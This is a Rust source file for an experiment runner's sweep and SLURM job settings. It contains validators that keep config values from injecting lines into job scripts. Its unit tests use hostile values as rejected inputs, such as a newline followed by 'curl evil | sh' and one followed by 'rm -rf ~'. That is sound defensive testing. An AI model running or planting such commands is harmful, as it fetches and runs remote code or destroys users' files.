//! The `[sweep]` and `[slurm]` tables (their execution: `crate::sweep`).

use std::collections::BTreeMap;

use schemars::JsonSchema;
use serde::{Deserialize, Serialize};

use crate::check::{excerpt, Invalid};

/// Seeds and parameter values to expand one experiment into many runs.
/// Runs = cartesian product of `grid` x the `zip` groups x `seeds`.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize, JsonSchema)]
#[serde(deny_unknown_fields, default)]
pub struct SweepConfig {
    /// Seeds of every combination (unset: the experiment's `seed`; an empty
    /// list is an error).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub seeds: Option<Vec<u64>>,
    /// Dotted key -> list of values; every combination of the lists is run.
    pub grid: BTreeMap<String, Vec<serde_json::Value>>,
    /// Dotted key -> list of values; all lists have one length and are paired
    /// (the i-th values go together), not crossed.
    pub zip: BTreeMap<String, Vec<serde_json::Value>>,
}

/// Resources of the SLURM array written by `runner slurm` (flags override these).
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize, JsonSchema)]
#[serde(deny_unknown_fields, default)]
pub struct SlurmConfig {
    /// Partition to submit to (unset: the cluster's default).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub partition: Option<String>,
    /// Time limit of one task, `HH:MM:SS` or any `--time` format.
    pub time: String,
    /// CPUs of one task.
    pub cpus_per_task: usize,
    /// Memory of one task, e.g. `4G`.
    pub mem: String,
    /// Array tasks running at once (the `%K` of `--array=0-N%K`).
    pub concurrency: usize,
    /// Extra `#SBATCH` options, e.g. `["--account=lab", "--qos=short"]`.
    pub extra: Vec<String>,
    /// Seconds before a task's time limit at which SLURM signals it: the
    /// run writes a checkpoint and stops, and the task is requeued, to
    /// resume from the checkpoint (`#SBATCH --requeue`, `--signal`). 0: no
    /// requeue (a task that reaches its limit is killed and the run is
    /// resumed from its last periodic checkpoint by a later submission).
    pub requeue_grace: u64,
}

impl Default for SlurmConfig {
    fn default() -> Self {
        Self {
            partition: None,
            time: "04:00:00".into(),
            cpus_per_task: 1,
            mem: "4G".into(),
            concurrency: 8,
            extra: Vec::new(),
            requeue_grace: 180,
        }
    }
}

impl SlurmConfig {
    /// Every value that reaches an `#SBATCH` line is checked, so a config
    /// cannot add lines (or commands) to the job script: `time` is one of
    /// SLURM's forms ([`check_time`]); `mem` is digits with an
    /// optional unit `K`, `M`, `G` or `T`; `partition` is letters, digits and
    /// `_ . , -`; each `extra` entry is one `--option` or `--option=value`
    /// without spaces, quotes or control characters; the counts are at least 1.
    pub fn check(&self) -> Result<(), Invalid> {
        let only = |key: &str, v: &str, ok: &dyn Fn(char) -> bool, what: &str| {
            if !v.is_empty() && v.chars().all(ok) {
                Ok(())
            } else {
                Err(Invalid::new(key, format!("{:?} is not {what}", excerpt(v))))
            }
        };
        check_time(&self.time)?;
        let digits = self.mem.trim_end_matches(['K', 'M', 'G', 'T']);
        if digits.is_empty()
            || !digits.chars().all(|c| c.is_ascii_digit())
            || self.mem.len() > digits.len() + 1
        {
            return Err(Invalid::new(
                "slurm.mem",
                format!(
                    "{:?} is not a SLURM memory size (e.g. 4G, 500M)",
                    excerpt(&self.mem)
                ),
            ));
        }
        if let Some(p) = &self.partition {
            only(
                "slurm.partition",
                p,
                &|c| c.is_ascii_alphanumeric() || "_.,-".contains(c),
                "a partition name (letters, digits, `_ . , -`)",
            )?;
        }
        for (i, e) in self.extra.iter().enumerate() {
            let ok = e.starts_with("--")
                && e.len() > 2
                && e.chars()
                    .all(|c| c.is_ascii_alphanumeric() || "-_=.,:/@%+".contains(c));
            if !ok {
                return Err(Invalid::new(
                    format!("slurm.extra[{i}]"),
                    format!(
                        "{:?} is not one `--option` or `--option=value` (letters, digits \
                         and `-_=.,:/@%+`; no spaces, quotes or line breaks)",
                        excerpt(e)
                    ),
                ));
            }
        }
        if self.cpus_per_task == 0 {
            return Err(Invalid::new("slurm.cpus_per_task", "must be at least 1"));
        }
        if self.concurrency == 0 {
            return Err(Invalid::new("slurm.concurrency", "must be at least 1"));
        }
        Ok(())
    }
}

/// SLURM's forms of a time limit, as `sbatch --time` reads them.
const TIME_FORMS: &str = "MM, MM:SS, HH:MM:SS, D-HH, D-HH:MM or D-HH:MM:SS";

/// `Err` unless `time` is one of SLURM's forms: `MM`, `MM:SS`, `HH:MM:SS`,
/// `D-HH`, `D-HH:MM`, `D-HH:MM:SS`, every field digits. The first field is
/// the largest unit given and may exceed its range (`90` is 90 minutes,
/// `48:00:00` 48 hours, as SLURM reads them); the fields after it are
/// bounded: minutes and seconds below 60, hours after a day below 24.
pub fn check_time(time: &str) -> Result<(), Invalid> {
    let bad = |why: String| {
        Err(Invalid::new(
            "slurm.time",
            format!(
                "{:?} is not a SLURM time: {why}; the forms are {TIME_FORMS} \
                 (e.g. 04:00:00 or 1-12:00:00)",
                excerpt(time)
            ),
        ))
    };
    let (days, clock) = match time.split_once('-') {
        Some((d, rest)) => (Some(d), rest),
        None => (None, time),
    };
    let fields: Vec<&str> = clock.split(':').collect();
    // The unit of each field, largest first.
    let units: &[(&str, u64)] = match (days.is_some(), fields.len()) {
        (false, 1) => &[("minutes", u64::MAX)],
        (false, 2) => &[("minutes", u64::MAX), ("seconds", 60)],
        (false, 3) => &[("hours", u64::MAX), ("minutes", 60), ("seconds", 60)],
        (true, 1) => &[("hours", 24)],
        (true, 2) => &[("hours", 24), ("minutes", 60)],
        (true, 3) => &[("hours", 24), ("minutes", 60), ("seconds", 60)],
        (_, n) => return bad(format!("{n} `:`-separated fields")),
    };
    let number = |f: &str, what: &str| -> Result<u64, Invalid> {
        match f.parse::<u64>() {
            Ok(v) if !f.is_empty() && f.len() <= 9 && f.bytes().all(|b| b.is_ascii_digit()) => {
                Ok(v)
            }
            _ => bad(format!("the {what} {:?} are not a number", excerpt(f))).map(|()| 0),
        }
    };
    if let Some(d) = days {
        number(d, "days")?;
    }
    for (f, (what, below)) in fields.iter().zip(units) {
        let v = number(f, what)?;
        if v >= *below {
            return bad(format!("{what} {v} must be below {below}"));
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Values that would break out of an `#SBATCH` line are refused with
    /// their key; ordinary ones pass.
    #[test]
    fn slurm_values_are_checked() {
        let ok = SlurmConfig {
            partition: Some("gpu-short".into()),
            time: "1-12:00:00".into(),
            mem: "16G".into(),
            extra: vec!["--account=lab".into(), "--exclusive".into()],
            ..SlurmConfig::default()
        };
        assert!(ok.check().is_ok());
        assert!(SlurmConfig::default().check().is_ok());
        let bad = |f: &dyn Fn(&mut SlurmConfig), key: &str| {
            let mut c = SlurmConfig::default();
            f(&mut c);
            let e = c.check().unwrap_err();
            assert_eq!(e.key, key, "{e}");
        };
        bad(&|c| c.mem = "4G\ncurl evil | sh".into(), "slurm.mem");
        bad(&|c| c.mem = "G".into(), "slurm.mem");
        bad(&|c| c.mem = "4GG".into(), "slurm.mem");
        bad(&|c| c.time = "01:00 ; rm".into(), "slurm.time");
        bad(&|c| c.time = "99:99:99:99".into(), "slurm.time");
        bad(&|c| c.partition = Some("a b".into()), "slurm.partition");
        bad(
            &|c| c.extra = vec!["--x=1\nrm -rf ~".into()],
            "slurm.extra[0]",
        );
        bad(&|c| c.extra = vec!["account=lab".into()], "slurm.extra[0]");
        bad(&|c| c.concurrency = 0, "slurm.concurrency");
    }

    /// SLURM's time forms pass (a leading field may exceed its range, as
    /// SLURM reads it); anything else is refused with the forms.
    #[test]
    fn slurm_times_follow_slurms_forms() {
        for ok in [
            "0",
            "30",
            "90",
            "30:00",
            "90:30",
            "04:00:00",
            "48:00:00",
            "1-0",
            "2-12",
            "1-12:30",
            "1-12:00:00",
            "7-23:59:59",
        ] {
            assert!(check_time(ok).is_ok(), "{ok}: {:?}", check_time(ok));
        }
        for (bad, why) in [
            ("99:99:99:99", "4 `:`-separated fields"),
            ("1:60", "seconds 60 must be below 60"),
            ("1:60:00", "minutes 60 must be below 60"),
            ("1-24", "hours 24 must be below 24"),
            ("1-23:00:60", "seconds 60 must be below 60"),
            ("", "are not a number"),
            ("1:", "are not a number"),
            ("-1", "are not a number"),
            ("1-2-3", "are not a number"),
            ("1:+2", "are not a number"),
            ("01:00 ; rm", "are not a number"),
            ("infinite", "are not a number"),
        ] {
            let e = check_time(bad).unwrap_err();
            assert_eq!(e.key, "slurm.time");
            assert!(e.message.contains(why), "{bad}: {e}");
            assert!(e.message.contains("D-HH:MM:SS"), "{e}");
        }
    }
}
